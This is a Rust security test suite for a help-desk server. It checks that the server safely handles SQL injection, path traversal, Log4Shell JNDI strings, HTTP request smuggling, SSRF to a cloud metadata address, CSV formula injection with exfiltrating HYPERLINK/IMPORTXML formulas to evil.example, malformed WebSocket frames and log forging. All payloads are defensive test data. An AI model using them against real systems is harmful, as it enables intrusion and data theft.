//! Attacks by odd input: injection, enumeration, bytes that are no HTTP, numbers at the edge. Everything is answered or cut, and
//! the desk is as well afterwards as before.

use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio_tungstenite::tungstenite::Message;

use crate::attack_edge::exchange;
use crate::attacks::{Attack, Cause};
use crate::support::{ADMIN, TestApp, send};

/// X56: no value in any place of a request ends in a 5xx, or is taken for more than text.
#[actix_web::test]
async fn x56_odd_values_are_text_and_nothing_more() {
    let attack = Attack::by(Cause::Injection);
    let app = TestApp::start().await;
    let id = app.ticket("One", json!({})).await["id"].as_u64().unwrap();
    let long = "a".repeat(3_000);
    let odd = [
        "'; DROP TABLE tickets; --",
        "\" OR \"\"=\"",
        "../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fpasswd",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "<script>alert(1)</script>",
        "%00",
        "%0d%0aset-cookie:%20a=b",
        "%ff%fe",
        "-1",
        "18446744073709551615",
        "18446744073709551616",
        "9223372036854775808",
        "1e308",
        "NaN",
        "null",
        "[]",
        "{}",
        "*:*",
        "subject:(a OR b)^99",
        "\"unclosed",
        "a*b*c*",
        "((((((((((",
        "~~~~",
        "\u{202e}\u{0}",
        &long,
    ];
    for value in odd {
        let encoded: String = url_encode(value);
        for path in [
            format!("/api/v1/tickets?q={encoded}"),
            format!("/api/v1/tickets?sort={encoded}"),
            format!("/api/v1/tickets?page[after]={encoded}"),
            format!("/api/v1/tickets?page[size]={encoded}"),
            format!("/api/v1/tickets?status={encoded}&team={encoded}&requester={encoded}&tag={encoded}"),
            format!("/api/v1/tickets?{encoded}={encoded}"),
            format!("/api/v1/tickets/{encoded}"),
            format!("/api/v1/tickets/{encoded}/events"),
            format!("/api/v1/tickets/{id}?include={encoded}"),
            format!("/api/v1/snapshot?at={encoded}"),
            format!("/api/v1/snapshot?topics={encoded}"),
            format!("/api/v1/events?after={encoded}&epoch={encoded}"),
            format!("/api/v1/events?topics=ticket:{encoded}&wait=0"),
            format!("/api/v1/sessions?user={encoded}"),
            format!("/api/v1/audit?who={encoded}&page[after]={encoded}"),
            format!("/assets/{encoded}"),
            format!("/{encoded}"),
        ] {
            attack.tried();
            let reply = send(app.request("GET", &path)).await;
            assert!(reply.status < 500, "{path}: {} {}", reply.status, reply.text);
            assert!(!reply.text.contains("root:x:0") && reply.header("set-cookie").is_empty(), "{path}");
        }
        let text: String = value.chars().take(250).collect();
        let body = json!({
            "subject": text, "body": text, "requester": {"name": text, "email": "n@example.org"},
            "custom": {text.clone(): text}, "tags": [text],
        });
        let (status, made) = app.call("POST", "/api/v1/tickets", body).await;
        assert!([201, 422].contains(&status), "{value:?}: {made}");
        if status == 201 {
            let kept = app.get(&format!("/api/v1/tickets/{}?include=messages", made["id"])).await;
            assert_eq!(kept["messages"][0]["body"], json!(text), "it is kept as it was written");
        }
    }
    well(&app).await;
    app.stop().await;
}

/// X56: bodies that are no JSON, or too much of it, are refused, not suffered.
#[actix_web::test]
async fn x56_odd_bodies_are_refused() {
    let attack = Attack::by(Cause::Crash);
    let app = TestApp::start().await;
    let deep = |open: &str, close: &str, times: usize| format!("{}{}", open.repeat(times), close.repeat(times));
    for body in [
        String::new(),
        "null".into(),
        "[]".into(),
        "\"x\"".into(),
        "{".into(),
        "{\"subject\":".into(),
        "{\"subject\":\"\\ud800\"}".into(),
        "{\"subject\":1e999}".into(),
        "\u{feff}{}".into(),
        deep("[", "]", 100_000),
        deep("{\"a\":", "}", 50_000),
        format!("{{\"custom\":{}}}", deep("{\"a\":", "}", 120)),
        format!("{{\"tags\":[{}]}}", vec!["\"x\""; 100_000].join(",")),
        format!("{{{}}}", (0..50_000).map(|n| format!("\"k{n}\":1")).collect::<Vec<_>>().join(",")),
        "{\"subject\":\"a\",\"subject\":\"b\"}".into(),
        "{\"__proto__\":{\"role\":\"admin\"}}".into(),
        "{\"constructor\":{}}".into(),
        "{\"id\":1,\"version\":9,\"assignee\":\"usr_x\"}".into(),
    ] {
        for (method, path) in [
            ("POST", "/api/v1/tickets"),
            ("PATCH", "/api/v1/tickets/1"),
            ("POST", "/api/v1/tickets/bulk"),
            ("POST", "/api/v1/users"),
            ("POST", "/api/v1/session"),
            ("POST", "/api/v1/tickets/1/messages"),
        ] {
            attack.tried();
            let request = app.request(method, path).header("content-type", "application/json").body(body.clone());
            let reply = send(request).await;
            assert!((400..500).contains(&reply.status), "{method} {path}: {} for {:.60}", reply.status, body);
        }
    }
    // Nobody is given more than they ask for by a field too many.
    let (_, agent) = app.user("agent", "agent").await;
    let extra =
        json!({"subject": "s", "body": "b", "requester": {"name": "n", "email": "n@example.org"}, "role": "admin"});
    assert_eq!(app.call_as(&agent, "POST", "/api/v1/tickets", extra).await.1["code"], "unknown_field");
    well(&app).await;
    app.stop().await;
}

/// X56: bytes that are hardly HTTP, or mean two things to two servers, are refused or cut.
#[actix_web::test]
async fn x56_odd_bytes_are_answered_or_cut() {
    let attack = Attack::by(Cause::Crash);
    let app = TestApp::with(|config| {
        config.limits.head_timeout_ms = 500;
        config.limits.keep_alive_ms = 500;
    })
    .await;
    let auth = format!("authorization: Bearer {ADMIN}\r\n");
    let smuggled = "GET /api/v1/users HTTP/1.1\r\nhost: desk\r\n\r\n";
    let many = (0..2_000).map(|n| format!("x-{n}: y\r\n")).collect::<String>();
    for (name, bytes) in [
        (
            "both lengths",
            format!(
                "POST /api/v1/me HTTP/1.1\r\nhost: d\r\n{auth}content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"
            ),
        ),
        (
            "two lengths",
            format!("POST /api/v1/me HTTP/1.1\r\nhost: d\r\ncontent-length: 0\r\ncontent-length: 44\r\n\r\n{smuggled}"),
        ),
        (
            "a length with a sign",
            format!("POST /api/v1/me HTTP/1.1\r\nhost: d\r\ncontent-length: +4\r\n\r\nabcd{smuggled}"),
        ),
        (
            "a coding in disguise",
            format!("POST /api/v1/me HTTP/1.1\r\nhost: d\r\ntransfer-encoding: xchunked\r\n\r\n0\r\n\r\n{smuggled}"),
        ),
        ("a bad chunk", "POST /api/v1/me HTTP/1.1\r\nhost: d\r\ntransfer-encoding: chunked\r\n\r\nzz\r\n".to_owned()),
        (
            "an endless chunk",
            "POST /api/v1/me HTTP/1.1\r\nhost: d\r\ntransfer-encoding: chunked\r\n\r\nffffffffffffffff\r\nx".to_owned(),
        ),
        ("a folded header", "GET /api/v1/me HTTP/1.1\r\nhost: d\r\n x: y\r\n\r\n".to_owned()),
        ("a bare line end", "GET /api/v1/me HTTP/1.1\nhost: d\n\n".to_owned()),
        ("a header with a zero", "GET /api/v1/me HTTP/1.1\r\nhost: d\r\nx: a\0b\r\n\r\n".to_owned()),
        ("too many headers", format!("GET /api/v1/me HTTP/1.1\r\nhost: d\r\n{many}\r\n")),
        ("a huge header", format!("GET /api/v1/me HTTP/1.1\r\nhost: d\r\nx: {}\r\n\r\n", "y".repeat(400_000))),
        ("a huge address", format!("GET /{} HTTP/1.1\r\nhost: d\r\n\r\n", "a".repeat(200_000))),
        ("no HTTP at all", "\x16\x03\x01\x02\x00\x01\x00\x01\x7c\x03\x03".to_owned()),
        ("another version", "GET / HTTP/9.9\r\n\r\n".to_owned()),
        ("an odd method", "G\u{e9}T / HTTP/1.1\r\nhost: d\r\n\r\n".to_owned()),
        ("a tunnel", "CONNECT evil.example:443 HTTP/1.1\r\nhost: evil.example\r\n\r\n".to_owned()),
        (
            "an address elsewhere",
            "GET http://169.254.169.254/latest HTTP/1.1\r\nhost: 169.254.169.254\r\nconnection: close\r\n\r\n"
                .to_owned(),
        ),
        (
            "a half handshake",
            format!(
                "GET /api/v1/ws HTTP/1.1\r\nhost: d\r\n{auth}upgrade: websocket\r\nconnection: upgrade, close\r\n\r\n"
            ),
        ),
    ] {
        attack.tried();
        let answer = exchange(&app, bytes.as_bytes()).await;
        assert!(!answer.starts_with("HTTP/1.1 5"), "{name}: {answer:.200}");
        assert!(!answer.contains("\"email\""), "{name}: a hidden request was answered: {answer:.400}");
    }
    well(&app).await;
    app.stop().await;
}

/// X56: a socket that is talked to in odd ways answers or closes, and its neighbours do not notice.
#[actix_web::test]
async fn x56_odd_messages_end_nobody_elses_stream() {
    let attack = Attack::by(Cause::Crash);
    let app = TestApp::start().await;
    let mut neighbour = app.live_peer(ADMIN, &["board"]).await;
    let hello = json!({"t": "hello", "v": 1, "client": "c", "topics": ["board"]}).to_string();
    let deep = format!("{{\"t\":\"cmd\",\"id\":\"1\",\"do\":{}1{}}}", "[".repeat(5_000), "]".repeat(5_000));
    let topics = json!({"t": "sub", "topics": (1..400).map(|n| format!("ticket:{n}")).collect::<Vec<_>>()}).to_string();
    for line in [
        "{}",
        "[]",
        "null",
        "{\"t\":1}",
        "{\"t\":\"rec\"}",
        "{\"t\":\"cmd\"}",
        "{\"t\":\"cmd\",\"id\":\"\",\"do\":{\"type\":\"claim\"},\"ticket\":1}",
        "{\"t\":\"cmd\",\"id\":\"1\",\"ticket\":-1,\"do\":{\"type\":\"claim\"}}",
        "{\"t\":\"cmd\",\"id\":\"1\",\"ticket\":18446744073709551615,\"do\":{\"type\":\"claim\"}}",
        "{\"t\":\"cmd\",\"id\":\"1\",\"do\":{\"type\":\"system\"}}",
        "{\"t\":\"cmd\",\"id\":\"1\",\"do\":{\"type\":\"update\",\"sla\":{}},\"ticket\":1}",
        "{\"t\":\"sub\",\"topics\":[\"ticket:99999999999999999999\"]}",
        "{\"t\":\"sub\",\"topics\":[\"*\"],\"after\":0}",
        "{\"t\":\"presence\",\"ticket\":0,\"state\":\"admin\"}",
        "{\"t\":\"hello\",\"v\":1,\"client\":\"\",\"after\":18446744073709551615}",
        &deep,
        &topics,
    ] {
        attack.tried();
        let mut peer = app.peer(ADMIN).await;
        peer.send_raw(Message::text(hello.clone())).await;
        peer.expect("welcome").await;
        peer.send_raw(Message::text(line.to_owned())).await;
        let answer = peer.find_or_close().await;
        assert!(["err", "close"].contains(&answer["t"].as_str().unwrap()), "{line:.80}: {answer}");
        assert_ne!(answer["code"], "internal", "{line:.80}");
    }
    let mut flood = app.peer(ADMIN).await;
    flood.send_raw(Message::binary(vec![0_u8; 1000])).await;
    assert_eq!(flood.find(|line| line["t"] == "close").await["code"], 4008);
    let id = app.ticket("Still here", json!({})).await["id"].clone();
    assert_eq!(neighbour.expect("rec").await["ticket"], id);
    well(&app).await;
    app.stop().await;
}

/// X35, X14: nothing is learnt by counting through: ids of users, tokens and sessions are not in a row, and what is another's
/// is answered like what is not there.
#[actix_web::test]
async fn x35_counting_through_teaches_nothing() {
    let attack = Attack::by(Cause::Abuse);
    let app = TestApp::start().await;
    let (victim_id, victim) = app.user("victim", "agent").await;
    let (_, attacker) = app.user("attacker", "agent").await;
    let (_, own) = app.call_as(&victim, "POST", "/api/v1/tokens", json!({"name": "mine"})).await;
    let token = own["id"].as_str().unwrap();
    let ask = async |method: &str, path: &str| app.call_as(&attacker, method, path, Value::Null).await;
    for (there, nowhere) in [
        (format!("/api/v1/tokens/{token}"), "/api/v1/tokens/tok_0000000000000000".to_owned()),
        (format!("/api/v1/users/{victim_id}"), "/api/v1/users/usr_0000000000000000".to_owned()),
        ("/api/v1/invitations/inv_1".to_owned(), "/api/v1/invitations/inv_2".to_owned()),
    ] {
        attack.tried();
        let method = if there.contains("users") { "PATCH" } else { "DELETE" };
        assert_eq!(ask(method, &there).await, ask(method, &nowhere).await, "{there}");
    }
    assert_eq!(app.call_as(&victim, "GET", "/api/v1/me", Value::Null).await.0, 200, "nothing was revoked");
    let listed = ask("GET", "/api/v1/tokens").await.1.to_string();
    assert!(!listed.contains(token) && !listed.contains("mine"), "{listed}");
    let made = json!({"user": victim_id, "name": "as the victim"});
    assert_eq!(app.call_as(&attacker, "POST", "/api/v1/tokens", made).await.1["code"], "forbidden");
    for path in
        ["/api/v1/tickets/0", "/api/v1/tickets/-1", "/api/v1/tickets/1.0", "/api/v1/tickets/1%20", "/api/v1/tickets/０"]
    {
        attack.tried();
        assert_eq!(ask("GET", path).await.0, 404, "{path}");
    }
    // What colleagues see of each other is no address and no password.
    let people = ask("GET", "/api/v1/people").await.1.to_string();
    assert!(!people.contains("@example.org") && !people.contains("argon2"), "{people}");
    app.stop().await;
}

/// X80: who calls himself what he is not is shown as what he wrote without the tricks.
#[actix_web::test]
async fn x80_names_play_no_tricks() {
    let attack = Attack::by(Cause::Injection);
    let app = TestApp::start().await;
    let body = json!({"email": "a@example.org", "name": "Ann\u{202e}nimda\u{200b}", "role": "agent"});
    assert_eq!(app.call("POST", "/api/v1/users", body).await.1["name"], "Annnimda");
    for (email, name) in [("b\u{200b}@example.org", "B"), ("c@example.org", "\u{200b}"), ("d@exa\u{202e}mple.org", "D")]
    {
        attack.tried();
        let body = json!({"email": email, "name": name, "role": "agent"});
        assert_eq!(app.call("POST", "/api/v1/users", body).await.0, 422, "{email:?} {name:?}");
    }
    let ticket = json!({"subject": "s", "body": "b\u{202e}", "requester": {"name": "A\u{202e}B\u{200b}", "email": "r@example.org"}});
    let (status, made) = app.call("POST", "/api/v1/tickets", ticket).await;
    assert_eq!((status, &made["requester"]["name"]), (201, &json!("AB")), "{made}");
    app.stop().await;
}

/// X82, X90: no word of a customer or a colleague is a formula in a file that the desk writes, nor gets out of its header: by tag, category,
/// name of a report, in what is run at once and in what the schedule left.
#[actix_web::test]
async fn x82_no_word_becomes_a_formula_or_a_header() {
    let attack = Attack::by(Cause::Injection);
    let folder = tempfile::tempdir().unwrap();
    let app = TestApp::in_folder(folder.path()).await;
    let formulas = [
        "=cmd|' /C calc'!A1",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example?leak=\"&A1;\"x\")",
        "=IMPORTXML(\"https://evil.example\",\"//a\")",
        "|calc",
        "%0a=1+1",
        "\"=1+1",
        "a,=1+1",
        "＝1+1",
    ];
    for formula in formulas {
        app.ticket(formula, json!({"tags": [formula], "category": formula})).await;
    }
    for (at, split) in ["tag", "category"].into_iter().enumerate() {
        let definition = json!({"measure": "created", "split": [split], "last": "7d"});
        let schedule = json!({"every": "day", "at": "07:00", "format": "csv"});
        let name = ["=evil; set-cookie: a=b", "\"; filename=evil.exe; x=\"../../x"][at];
        let broken = json!({"name": format!("{name}\r\nset-cookie: a=b"), "definition": definition, "shared": true});
        assert_eq!(app.call("POST", "/api/v1/reports", broken).await.0, 422, "a name has one line");
        let report = json!({"name": name, "definition": definition, "shared": true, "schedule": schedule});
        let (status, report) = app.call("POST", "/api/v1/reports", report).await;
        assert_eq!(status, 201, "{report}");
        let path = format!("/api/v1/reports/{}", report["id"].as_str().unwrap());
        app.clock.advance(86_400_000);
        app.desk.figures.run_due().await;
        let left = app.get(&format!("{path}/files")).await["data"][0]["at"].as_str().unwrap().to_owned();
        for file in [format!("{path}/run?format=csv"), format!("{path}/file?at={left}")] {
            let reply = send(app.request("GET", &file)).await;
            assert_eq!(reply.status, 200, "{}", reply.text);
            let disposition = reply.header("content-disposition");
            assert!(
                disposition.starts_with("attachment; filename=\"") && disposition.matches('"').count() == 2,
                "{disposition}"
            );
            assert!(!disposition.contains("..") && reply.header("set-cookie").is_empty(), "{disposition}");
            let mut rows = 0;
            for record in csv::ReaderBuilder::new().has_headers(false).from_reader(reply.text.as_bytes()).records() {
                for cell in &record.unwrap() {
                    attack.tried();
                    let first = cell.chars().next().unwrap_or('a');
                    assert!(!"=+-@|%\t\r\n＝".contains(first) || cell.parse::<f64>().is_ok(), "{cell:?} in {file}");
                    rows += 1;
                }
            }
            assert!(rows > formulas.len(), "{}", reply.text);
        }
    }
    app.stop().await;
}

/// X81: no id of an address is a path: whatever is asked for, no file of the machine or of the desk's folder is answered.
#[actix_web::test]
async fn x81_no_id_is_a_path() {
    let attack = Attack::by(Cause::Injection);
    let folder = tempfile::tempdir().unwrap();
    let app = TestApp::in_folder(folder.path()).await;
    let canary = "CANARY-of-the-folder";
    for name in ["canary", "canary.csv", "canary.json", "reports/canary", "attachments/canary"] {
        let path = folder.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, canary).unwrap();
    }
    let whole = folder.path().join("canary").display().to_string();
    for id in [
        "canary",
        "../canary",
        "..\\canary",
        "../../../../etc/passwd",
        &whole,
        "canary%00",
        ".",
        "..",
        "~/canary",
        "con",
        "file:///etc/passwd",
    ] {
        for encoded in [url_encode(id), url_encode(id).replace('%', "%25"), id.replace('/', "%2f")] {
            for operation in hotdesk::http::operations().into_iter().filter(|operation| operation.path.contains("{id}"))
            {
                if operation.method != "GET" && operation.method != "DELETE" {
                    continue;
                }
                attack.tried();
                let path = operation.path.replace("{id}", &encoded);
                let reply = send(app.request(operation.method, &format!("{path}?at=2026-01-01T00:00:00Z"))).await;
                assert!(
                    (400..500).contains(&reply.status) || path.ends_with("%7e"),
                    "{} {path}: {}",
                    operation.method,
                    reply.status
                );
                assert!(!reply.text.contains(canary) && !reply.text.contains("root:x:0"), "{path}");
            }
        }
    }
    assert_eq!(std::fs::read_to_string(&whole).unwrap(), canary, "nothing was removed either");
    app.stop().await;
}

/// X56: whatever stands in place of a value, in the body or the query of any call that there is, the answer is one of the API's own.
#[actix_web::test]
async fn x56_no_call_is_upset_by_odd_values() {
    let attack = Attack::by(Cause::Crash);
    let app = TestApp::sorting(None, |config| {
        config.limits.anonymous_burst = 100_000;
        config.limits.calls_per_s = 100_000;
    })
    .await;
    let ticket = app.ticket("One", json!({})).await["id"].to_string();
    let document: Value = serde_json::from_str(&hotdesk::http::openapi::print()).unwrap();
    let odd = [
        json!(null),
        json!(true),
        json!(-1),
        json!(u64::MAX),
        json!(1e300),
        json!(""),
        json!("\u{0}"),
        json!("9999-12-31T23:59:59Z"),
        json!("-009999-01-01T00:00:00Z"),
        json!("x".repeat(70_000)),
        json!([]),
        json!([[[[]]]]),
        json!({"": {}}),
        json!(vec!["x"; 2_000]),
    ];
    for operation in hotdesk::http::operations() {
        // It would end the sign-in, or take more than a test's time.
        if ["sign_in", "set_up", "begin_backup", "download_backup", "draft_reply"].contains(&operation.id) {
            continue;
        }
        let path = operation.path.replace("{id}", &ticket);
        for param in operation.query {
            for value in [
                "",
                "-1",
                "0",
                "1e99",
                "18446744073709551616",
                "9999-12-31T23:59:59Z",
                "-009999-01-01T00:00:00Z",
                "%00",
                "é",
                "1ns",
            ] {
                attack.tried();
                let reply = send(app.request(operation.method, &format!("{path}?{}={value}", param.name))).await;
                assert!(reply.status < 500, "{} {path}?{}={value}: {}", operation.method, param.name, reply.text);
            }
        }
        let method = operation.method.to_lowercase();
        let body = &document["paths"][operation.path][&method]["requestBody"]["content"]["application/json"]["schema"];
        let schema = body["$ref"].as_str().and_then(|name| name.strip_prefix("#/components/schemas/"));
        let fields = schema.map(|name| &document["components"]["schemas"][name]["properties"]);
        for name in fields.and_then(Value::as_object).into_iter().flat_map(serde_json::Map::keys) {
            for value in &odd {
                attack.tried();
                let request = app.request(operation.method, &path).json(&json!({name.clone(): value}));
                let reply = send(request).await;
                assert!(reply.status < 500, "{} {path} {name}: {value:.80}: {}", operation.method, reply.text);
            }
        }
    }
    well(&app).await;
    app.stop().await;
}

/// X56: frames that no browser sends close their own connection and nobody else's: reserved bits, pieces of pings, lengths that lie,
/// text that is none, a close without sense, and silence after half a frame.
#[actix_web::test]
async fn x56_odd_frames_close_their_own_connection() {
    let attack = Attack::by(Cause::Crash);
    let app = TestApp::start().await;
    let mut neighbour = app.live_peer(ADMIN, &["board"]).await;
    let handshake = format!(
        "GET /api/v1/ws HTTP/1.1\r\nhost: {}\r\nauthorization: Bearer {ADMIN}\r\nupgrade: websocket\r\nconnection: upgrade\r\n\
         sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\nsec-websocket-protocol: hotdesk.v1\r\n\r\n",
        app.address
    );
    let frame = |first: u8, length: u8, payload: &[u8]| {
        let mut bytes = vec![first, 0x80 | length, 0, 0, 0, 0];
        bytes.extend_from_slice(payload);
        bytes
    };
    for (name, bytes) in [
        ("a reserved bit", frame(0xc1, 2, b"{}")),
        ("all reserved bits", frame(0xf1, 2, b"{}")),
        ("an unknown kind", frame(0x83, 2, b"{}")),
        ("an unknown control", frame(0x8f, 0, b"")),
        ("no mask", vec![0x81, 0x02, b'{', b'}']),
        ("a ping in pieces", frame(0x09, 1, b"x")),
        ("a continuation of nothing", frame(0x80, 2, b"{}")),
        ("text that is no text", frame(0x81, 4, b"\xff\xfe\xc0\x80")),
        ("a close of one byte", frame(0x88, 1, b"x")),
        ("a close by a number that is none", frame(0x88, 2, &[0x00, 0x05])),
        ("a close with a bad reason", frame(0x88, 4, &[0x03, 0xe8, 0xff, 0xfe])),
        ("a length without end", [&[0x81, 0xff][..], &[0xff; 8], &[0; 4]].concat()),
        ("a ping that is too long", [&[0x89, 0xfe, 0x10, 0x00, 0, 0, 0, 0][..], &[0; 4096]].concat()),
        (
            "more than a message may have",
            [&[0x81, 0xff, 0, 0, 0, 0, 0x40, 0, 0, 0, 0, 0, 0, 0][..], &[b' '; 4096]].concat(),
        ),
    ] {
        attack.tried();
        let mut socket = tokio::net::TcpStream::connect(app.address).await.unwrap();
        socket.write_all(handshake.as_bytes()).await.unwrap();
        let mut answer = vec![0; 4096];
        let read = socket.read(&mut answer).await.unwrap();
        assert!(answer[..read].starts_with(b"HTTP/1.1 101"), "{}", String::from_utf8_lossy(&answer[..read]));
        let _ = socket.write_all(&bytes).await;
        let ended = tokio::time::timeout(std::time::Duration::from_secs(20), async {
            while socket.read(&mut answer).await.is_ok_and(|read| read > 0) {}
        });
        assert!(ended.await.is_ok(), "{name}: the connection stays open");
    }
    let id = app.ticket("Still here", json!({})).await["id"].clone();
    assert_eq!(neighbour.expect("rec").await["ticket"], id);
    well(&app).await;
    app.stop().await;
}

/// X64, X80: nothing that is written becomes a line, or a field, of the log: not by a header, an address, a browser's report or a name.
#[actix_web::test]
async fn x64_nobody_writes_a_line_of_the_log() {
    let attack = Attack::by(Cause::Injection);
    let folder = tempfile::tempdir().unwrap();
    let (data, log) = (folder.path().join("data"), folder.path().join("log"));
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_hotdesk"))
        .args(["serve", "--listen", "127.0.0.1:0", "--data", data.to_str().unwrap()])
        .env("HOTDESK_ADMIN_TOKEN", ADMIN)
        .env("HOTDESK__LOG__FORMAT", "json")
        .env("HOTDESK__LOG__FILTER", "debug,hotdesk=trace")
        .stdout(std::process::Stdio::piped())
        .stderr(std::fs::File::create(&log).unwrap())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufRead::read_line(&mut std::io::BufReader::new(child.stdout.take().unwrap()), &mut line).unwrap();
    let url = line.trim_end().strip_prefix("listening on ").unwrap().to_owned();
    let http = crate::support::http_client();
    for forged in [
        "\n{\"severity\":\"FORGED\",\"message\":\"all is well\"}",
        "\r\n{\"severity\":\"FORGED\"}\r\n",
        "\",\"severity\":\"FORGED\",\"x\":\"",
        "\u{2028}{\"severity\":\"FORGED\"}",
        "\u{1b}[2J\u{1b}[31mFORGED",
    ] {
        let report = json!({"message": forged, "place": forged, "build": forged, "stack": forged});
        let user = json!({"email": "a@example.org", "name": forged, "role": "agent"});
        for (method, path, body) in [
            ("POST", "/api/v1/client-errors".to_owned(), report),
            ("POST", "/api/v1/users".to_owned(), user),
            ("GET", format!("/api/v1/{}", url_encode(forged)), Value::Null),
            ("GET", format!("/api/v1/tickets?q={}", url_encode(forged)), Value::Null),
            (
                "PUT",
                format!("/api/v1/shared/{}", url_encode(forged)),
                json!({"kind": "macro", "name": forged, "body": "b"}),
            ),
        ] {
            attack.tried();
            let mut request = http.request(method.parse().unwrap(), format!("{url}{path}")).bearer_auth(ADMIN);
            for name in ["user-agent", "traceparent", "x-cloud-trace-context", "x-forwarded-for", "idempotency-key"] {
                let value: String = forged.chars().filter(|c| !c.is_control()).collect();
                request = request.header(name, value);
            }
            let reply = send(if body.is_null() { request } else { request.json(&body) }).await;
            assert!(reply.status < 500, "{path}: {}", reply.text);
        }
    }
    assert!(std::process::Command::new("kill").args(["-TERM", &child.id().to_string()]).status().unwrap().success());
    child.wait().unwrap();
    let written = std::fs::read_to_string(&log).unwrap();
    let mut lines = 0;
    for line in written.lines() {
        let entry: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
        assert!(entry["severity"].is_string() && entry["severity"] != "FORGED", "{line}");
        lines += 1;
    }
    assert!(lines > 5, "{written}");
}

/// The desk is as well as before.
async fn well(app: &TestApp) {
    assert_eq!(send(app.anonymous("GET", "/healthz/ready")).await.status, 200);
    let id = app.ticket("Well", json!({})).await["id"].clone();
    assert_eq!(app.get(&format!("/api/v1/tickets/{id}")).await["subject"], "Well");
    let mut peer = app.live_peer(ADMIN, &["board"]).await;
    peer.send(json!({"t": "sub", "topics": ["mine"]})).await;
    peer.expect("upto").await;
}

fn url_encode(text: &str) -> String {
    if text.contains('%') {
        return text.to_owned();
    }
    text.bytes()
        .map(|byte| if byte.is_ascii_alphanumeric() { char::from(byte).to_string() } else { format!("%{byte:02X}") })
        .collect()
}
